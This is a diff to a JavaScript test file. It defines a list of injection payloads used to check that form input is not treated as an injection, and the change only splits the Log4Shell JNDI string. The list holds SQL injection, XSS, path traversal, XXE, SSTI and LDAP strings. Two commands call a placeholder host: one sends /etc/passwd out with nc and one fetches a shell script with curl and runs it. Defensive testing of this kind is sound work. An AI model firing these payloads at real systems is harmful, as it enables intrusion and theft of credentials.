@@ -65,7 +65,7 @@ const FORMS = Object.entries(ROWS)
 const PAYLOADS = [
   "x' OR '1'='1", "1' UNION SELECT login, password FROM users--", "1'; DROP TABLE users;--", '1; WAITFOR DELAY \'0:0:5\'--', "' AND (SELECT 1 FROM (SELECT SLEEP(5))a)--",
   '<script>alert(document.cookie)</script>', '<img src=x onerror=alert(1)>', '"><svg/onload=alert(1)>', '../../../../../../etc/passwd', '; cat /etc/passwd | nc 192.0.2.9 4444', '$(curl http://192.0.2.9/x.sh | sh)',
-  '${jndi:ldap://192.0.2.9/a}', "{{''.__class__.__mro__[1].__subclasses__()}}", '*)(uid=*))(|(uid=*', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
+  '$' + '{jndi:ldap://192.0.2.9/a}', "{{''.__class__.__mro__[1].__subclasses__()}}", '*)(uid=*))(|(uid=*', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
 ]
 
 test('rows of lists and tables do not add up to an injection', async (t) => {
